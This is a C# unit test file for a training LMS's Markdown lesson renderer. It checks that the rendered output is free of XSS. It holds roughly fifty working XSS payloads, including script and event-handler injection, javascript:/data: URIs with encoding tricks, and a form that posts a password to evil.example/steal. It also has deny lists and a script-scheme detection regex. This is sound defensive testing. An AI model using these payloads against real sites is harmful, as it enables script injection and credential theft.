using System.Net;
using System.Text.RegularExpressions;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using TrainingLms.Web.Features.Courses.Content;
using TrainingLms.Web.Features.Content;
using TrainingLms.Web.Features.Courses;

namespace TrainingLms.Web.Tests.Features.Courses.Content;

public sealed partial class LessonRendererTests
{
    private const string Slug = "greeting-basics";
    private const string MediaPrefix = $"/learning/media/{Slug}/";

    /// <summary>Raw HTML: Markdig must show each of these as text, never as markup.</summary>
    private static readonly string[] RawHtmlPayloads =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(2)>",
        "<body onload=alert(3)>",
        "<div onclick=\"alert(4)\">click me</div>",
        "<iframe src=\"https://evil.example/frame\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<svg><script>alert(8)</script></svg>",
        "<svg onload=alert(9)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>",
        "<style>body { background: url(javascript:alert(11)) }</style>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(12)\">",
        "<!-- <script>alert(13)</script> -->",
        "<a href=\"javascript:alert(14)\">raw link</a>",
        "<a href=\"&#x6A;avascript:alert(15)\">raw encoded link</a>",
        "<base href=\"https://evil.example/\">",
        "<form action=\"https://evil.example/steal\"><input name=\"password\"><button>go</button></form>",
        "<img srcset=\"javascript:alert(18) 1x, https://evil.example/x.png 2x\">",
        "<p style=\"width: expression(alert(19))\">styled</p>",
        "<div style=\"background:url(javascript:alert(20))\">bg</div>",
        "<details open ontoggle=alert(21)>",
        "<video><source onerror=\"alert(22)\"></video>",
        "Inline <span onmouseover=alert(23)>hover</span> in a sentence.",
        "<textarea autofocus onfocus=alert(24)>",
    ];

    /// <summary>Markdown that produces links and pictures: the address must be dropped or made safe.</summary>
    private static readonly string[] MarkdownPayloads =
    [
        "[plain](javascript:alert(31))",
        "[mixed case](JaVaScRiPt:alert(32))",
        "[vb](vbscript:msgbox(33))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgzNCk8L3NjcmlwdD4=)",
        "[spaced](<java script:alert(35)>)",
        "[tab](java&#9;script:alert(36))",
        "[newline](java&#10;script:alert(37))",
        "[decimal entity](&#106;avascript:alert(38))",
        "[hex entity](&#x6A;avascript:alert(39))",
        "[named entity](javascript&colon;alert(40))",
        "[percent](%6Aavascript:alert(41))",
        "[leading space]( javascript:alert(42) \"title\")",
        "[comment trick](javascript://%0Aalert(43))",
        "[reference][evil-ref]",
        "<javascript:alert(45)>",
        "<VBSCRIPT:msgbox(46)>",
        "<data:text/html,alert(47)>",
        "![picture script](javascript:alert(48))",
        "![picture data](data:image/png;base64,iVBORw0KGgo=)",
        "![other host](https://evil.example/x.png)",
        "![parent folder](../../x.png)",
        "![absolute](/etc/passwd.png)",
        "![wrong type](images/x.svg)",
        "![reference picture][evil-image]",
        "![protocol relative](//evil.example/x.png)",
        "![the one good picture](images/ok.png)",
        "[safe web link](https://example.com/ok) and [safe anchor](#top) among them",
        "[evil-ref]: javascript:alert(44)",
        "[evil-image]: javascript:alert(54)",
    ];

    private static readonly string HostileLesson = string.Join("\n\n", RawHtmlPayloads.Concat(MarkdownPayloads)) + "\n";

    private static readonly string[] ForbiddenElements = ["script", "iframe", "object", "embed", "svg", "math", "style", "meta", "base", "form", "input", "textarea", "button", "video", "source", "details", "link"];

    private readonly ContentRenderer renderer = new([new ClipBlock()]);

    private IDocument RenderDocument(string markdown)
    {
        var html = string.Concat(renderer.Render(markdown, CourseMedia.Of(Slug)).OfType<HtmlPart>().Select(p => p.Html));
        return new HtmlParser().ParseDocument($"<!DOCTYPE html><html><body>{html}</body></html>");
    }

    [Fact]
    public void Render_HostileLesson_AtLeastThirtyPayloadsInOneHtmlPart()
    {
        Assert.InRange(RawHtmlPayloads.Length + MarkdownPayloads.Length, 30, int.MaxValue);
        Assert.IsType<HtmlPart>(Assert.Single(renderer.Render(HostileLesson, CourseMedia.Of(Slug))));
    }

    [Fact]
    public void Render_HostileLesson_NoActiveElements()
    {
        var document = RenderDocument(HostileLesson);

        var found = ForbiddenElements.Where(tag => document.Body!.QuerySelectorAll(tag).Length > 0);

        Assert.Empty(found);
    }

    [Fact]
    public void Render_HostileLesson_NoEventHandlerOrStyleAttributes()
    {
        var document = RenderDocument(HostileLesson);

        var attributes = document.Body!.Descendants<IElement>()
            .SelectMany(e => e.Attributes.Select(a => $"{e.LocalName}[{a.Name}]"))
            .Where(a => a.Contains("[on", StringComparison.OrdinalIgnoreCase) || a.Contains("[style", StringComparison.OrdinalIgnoreCase) || a.Contains("[srcset", StringComparison.OrdinalIgnoreCase));

        Assert.Empty(attributes);
    }

    [Fact]
    public void Render_HostileLesson_EveryLinkIsWebMailRelativeOrAnchor()
    {
        var document = RenderDocument(HostileLesson);

        var hrefs = document.Body!.Descendants<IElement>().Select(e => e.GetAttribute("href")).OfType<string>().ToList();

        Assert.Equal(["https://example.com/ok", "#top"], hrefs);
        Assert.All(hrefs, href => Assert.True(IsAllowedHref(href), $"href=\"{href}\""));
    }

    [Fact]
    public void Render_HostileLesson_EveryPictureFromTheCourseFolder()
    {
        var document = RenderDocument(HostileLesson);

        var images = document.QuerySelectorAll("img");
        var sources = document.Body!.Descendants<IElement>().Select(e => e.GetAttribute("src")).OfType<string>();

        Assert.Equal(9, images.Length);
        Assert.Equal([$"{MediaPrefix}images/ok.png"], sources);
        Assert.All(sources, src => Assert.StartsWith(MediaPrefix, src, StringComparison.Ordinal));
    }

    [Fact]
    public void Render_HostileLesson_NoScriptSchemeAfterDecoding()
    {
        var document = RenderDocument(HostileLesson);

        var addresses = document.Body!.Descendants<IElement>()
            .SelectMany(e => e.Attributes)
            .Where(a => a.Name is "href" or "src" or "srcset" or "action" or "formaction" or "data")
            .Select(a => Decoded(a.Value));

        Assert.All(addresses, address => Assert.DoesNotMatch(ScriptScheme(), address));
    }

    [Fact]
    public void Render_HostileLesson_RawHtmlShownAsText()
    {
        var document = RenderDocument(HostileLesson);

        var text = document.Body!.TextContent;

        // Character references are still decoded in text, as CommonMark requires: "&#x6A;" shows as "j".
        Assert.All(RawHtmlPayloads, payload => Assert.Contains(WebUtility.HtmlDecode(payload), text, StringComparison.Ordinal));
    }

    [Fact]
    public void Render_HostileLesson_LinkTextKept()
    {
        var document = RenderDocument(HostileLesson);

        var linkTexts = document.QuerySelectorAll("a").Select(a => a.TextContent).ToList();

        Assert.Contains("plain", linkTexts);
        Assert.Contains("reference", linkTexts);
        Assert.Contains("javascript:alert(45)", linkTexts);
    }

    [Fact]
    public void Render_PlainMarkdown_TablesListsEmphasisAndHeadingAnchors()
    {
        const string markdown = """
            ## Smile and nod

            Say **hello**, *smile* and ~~frown~~ never.

            - first
            - second

            1. one
            2. two

            | step | seconds |
            |------|--------:|
            | meet | 3 |
            """;

        var document = RenderDocument(markdown);

        Assert.Equal("smile-and-nod", document.QuerySelector("h2")!.Id);
        Assert.Equal("hello", document.QuerySelector("strong")!.TextContent);
        Assert.Equal("smile", document.QuerySelector("em")!.TextContent);
        Assert.Equal("frown", document.QuerySelector("del")!.TextContent);
        Assert.Equal(["first", "second"], document.QuerySelectorAll("ul > li").Select(li => li.TextContent));
        Assert.Equal(["one", "two"], document.QuerySelectorAll("ol > li").Select(li => li.TextContent));
        Assert.Equal(["step", "seconds"], document.QuerySelectorAll("table thead th").Select(th => th.TextContent));
        Assert.Equal(["meet", "3"], document.QuerySelectorAll("table tbody td").Select(td => td.TextContent));
    }

    [Fact]
    public void Render_SafeLinks_KeptAsWritten()
    {
        const string markdown = """
            [site](https://example.com/guide) [plain web](http://example.com/) [mail](mailto:training@example.com)
            [next lesson](02-smile) [section](#smile-and-nod) <https://example.com/auto>
            """;

        var document = RenderDocument(markdown);

        Assert.Equal(
            ["https://example.com/guide", "http://example.com/", "mailto:training@example.com", "02-smile", "#smile-and-nod", "https://example.com/auto"],
            document.QuerySelectorAll("a").Select(a => a.GetAttribute("href")));
    }

    [Fact]
    public void Render_RelativePicture_PointsAtTheCourseMedia()
    {
        var document = RenderDocument("![微笑](images/smile.png) ![sub folder](images/steps/1.jpg)");

        Assert.Equal(
            [$"{MediaPrefix}images/smile.png", $"{MediaPrefix}images/steps/1.jpg"],
            document.QuerySelectorAll("img").Select(img => img.GetAttribute("src")));
        Assert.Equal("微笑", document.QuerySelector("img")!.GetAttribute("alt"));
    }

    [Fact]
    public void Render_ClipAndQuizBlocks_ClipBecomesAPartQuizIsLeftOut()
    {
        const string markdown = """
            Before the clip.

            ```clip
            slug: smile-standard-demo
            required: true
            ```

            After the clip.

            ```quiz
            questions: []
            ```

            ```yaml
            shown: as code
            ```
            """;

        var parts = renderer.Render(markdown, CourseMedia.Of(Slug));

        Assert.Equal(4, parts.Count);
        Assert.Contains("Before the clip.", Assert.IsType<HtmlPart>(parts[0]).Html);
        Assert.Equal(new ClipPart("smile-standard-demo", Required: true), parts[1]);
        Assert.Contains("After the clip.", Assert.IsType<HtmlPart>(parts[2]).Html);
        Assert.Contains("<pre><code>shown: as code", Assert.IsType<HtmlPart>(parts[3]).Html);
        Assert.DoesNotContain(parts.OfType<HtmlPart>(), part => part.Html.Contains("questions"));
    }

    [Fact]
    public void Render_MalformedClipBlock_LeftOut()
    {
        var parts = renderer.Render("```clip\nslug: Not A Slug\n```\n\nText.", CourseMedia.Of(Slug));

        Assert.Contains("Text.", Assert.IsType<HtmlPart>(Assert.Single(parts)).Html);
    }

    /// <summary>A quiz with its answers, where no quiz may stand: each must leave nothing of its YAML in the page.</summary>
    public static TheoryData<string> StrayQuizzes => new(
        "- Review:\n\n  ```quiz\n  questions:\n    - type: truefalse\n      answer: true\n      correct: true\n  ```\n",
        "> Review:\n>\n> ```quiz\n> questions:\n>   - type: truefalse\n>     answer: true\n>     correct: true\n> ```\n",
        "1. first\n2. second\n   > ```clip\n   > slug: secret-clip\n   > required: true\n   > ```\n",
        "```Quiz\nquestions:\n  - type: truefalse\n    answer: true\n    correct: true\n```\n",
        "~~~ QUIZ\nquestions:\n  - answer: true\n    correct: true\n~~~\n");

    [Theory]
    [MemberData(nameof(StrayQuizzes))]
    public void Render_QuizOrClipNestedOrMiscased_NothingOfItsYamlShown(string block)
    {
        var parts = renderer.Render("Before.\n\n" + block + "\nAfter.\n", CourseMedia.Of(Slug));

        var html = string.Concat(parts.OfType<HtmlPart>().Select(p => p.Html));
        Assert.Contains("Before.", html);
        Assert.Contains("After.", html);
        Assert.DoesNotContain("<pre", html);
        Assert.DoesNotContain("correct", html);
        Assert.DoesNotContain("answer", html);
        Assert.DoesNotContain("secret-clip", html);
        Assert.DoesNotContain(parts, part => part is ClipPart);
    }

    private static bool IsAllowedHref(string href)
    {
        if (href.StartsWith('#')) return true;
        if (href.StartsWith("//", StringComparison.Ordinal)) return false;
        if (!SchemePrefix().IsMatch(href)) return true;
        return Uri.TryCreate(href, UriKind.Absolute, out var uri) && uri.Scheme is "http" or "https" or "mailto";
    }

    /// <summary>The address as a browser might read it: entities and percent-escapes decoded, whitespace and control characters dropped, lowercased.</summary>
    private static string Decoded(string address)
    {
        var text = Uri.UnescapeDataString(WebUtility.HtmlDecode(address));
        return new string(text.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray()).ToLowerInvariant();
    }

    [GeneratedRegex("^[a-zA-Z][a-zA-Z0-9+.-]*:")]
    private static partial Regex SchemePrefix();

    [GeneratedRegex("(javascript|vbscript|data):")]
    private static partial Regex ScriptScheme();
}
